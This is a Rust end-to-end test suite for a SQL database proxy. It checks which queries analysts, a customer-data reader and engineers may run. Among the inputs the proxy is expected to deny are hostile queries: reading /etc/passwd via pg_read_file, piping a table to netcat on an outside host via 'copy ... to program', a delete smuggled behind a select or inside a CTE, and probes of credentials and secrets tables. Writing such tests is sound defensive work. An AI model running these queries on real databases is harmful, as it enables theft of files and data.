//! SQL over HTTP.

use chaperone_e2e::client::Request;
use chaperone_e2e::world::World;

use super::{Step, member, run, world};

fn sql(script: &str) -> Request {
    member("/query", "sql", script)
}

#[tokio::test(flavor = "multi_thread")]
async fn analysts_read_and_nothing_else() {
    let world = world("database-proxy").await;
    let steps = [
        Step("the endpoint", Request::get("/ping"), "permitted"),
        Step("a query", sql("select id, total from orders where total > 10"), "permitted"),
        Step(
            "a join",
            sql("with big as (select * from orders) select count(*) from big join shops using (shop)"),
            "permitted",
        ),
        Step("in a transaction", sql("begin; select 1 from orders; commit"), "permitted"),
        Step("an insert", sql("insert into orders values (1)"), "no_permit"),
        Step("behind a query", sql("select 1 from orders; delete from orders where id = 1"), "no_permit"),
        Step(
            "in a CTE",
            sql("with gone as (delete from orders where id = 1 returning *) select * from gone"),
            "no_permit",
        ),
        Step("a lock", sql("select * from orders for update"), "no_permit"),
        Step("a file of the server", sql("select pg_read_file('/etc/passwd')"), "no_permit"),
        Step("a sleep", sql("select pg_sleep(60)"), "no_permit"),
        Step("a function that reads a secret", sql("select vault_read('x')"), "no_permit"),
        Step("a secret table", sql("select name from credentials"), "forbidden"),
        Step(
            "a secret table in a subquery",
            sql("select id from orders where id in (select id from secrets.tokens)"),
            "forbidden",
        ),
        Step("under another spelling", sql("select name from PUBLIC.\"credentials\""), "forbidden"),
        Step("no SQL", sql("selekt 1"), "undecodable"),
        Step("a setting and then names", sql("set search_path = secrets; select 1 from tokens"), "undecodable"),
        Step("an export", sql("copy orders to stdout"), "permitted"),
        Step("to a file of the server", sql("copy orders to '/tmp/orders'"), "no_permit"),
        Step("by a program", sql("copy orders to program 'nc example.net 1'"), "no_permit"),
        Step("a second one", sql("copy (select id from orders) to stdout"), "permitted"),
        Step("a third one", sql("copy orders to stdout"), "permitted"),
        Step("a fourth one", sql("copy orders to stdout"), "forbidden"),
    ];
    run(&world, "User::ann", steps).await;
    who_read_customers_exports_nothing(&world).await;
    engineers_change_tables_with_approval(&world).await;
}

async fn who_read_customers_exports_nothing(world: &World) {
    let steps = [
        Step("an export", sql("copy orders to stdout"), "permitted"),
        Step("a column that is nobody's business", sql("select national_id from customers"), "forbidden"),
        Step("all columns", sql("select * from customers"), "forbidden"),
        Step("some columns", sql("select name from customers"), "permitted"),
        Step("an export after that", sql("copy orders to stdout"), "forbidden"),
    ];
    run(world, "User::bob", steps).await;
    // A view is what it is made of.
    let steps = [
        Step("the view", sql("select name from active_customers"), "permitted"),
        Step("an export after that", sql("copy orders to stdout"), "forbidden"),
    ];
    run(world, "User::bob", steps).await;
}

async fn engineers_change_tables_with_approval(world: &World) {
    let steps = [
        Step("an update", sql("update orders set total = 0 where id = 1"), "permitted"),
        Step("of every row", sql("update orders set total = 0"), "forbidden"),
        Step("of every row in disguise", sql("delete from orders where 1 = 1"), "forbidden"),
        Step("a new column", sql("alter table orders add column note text"), "step_up_required"),
        Step("a table less", sql("drop table orders"), "step_up_required"),
        Step("a role", sql("grant all on orders to public"), "no_permit"),
        Step("a secret table", sql("update credentials set name = 'x' where id = 1"), "forbidden"),
    ];
    run(world, "User::eve", steps).await;
}
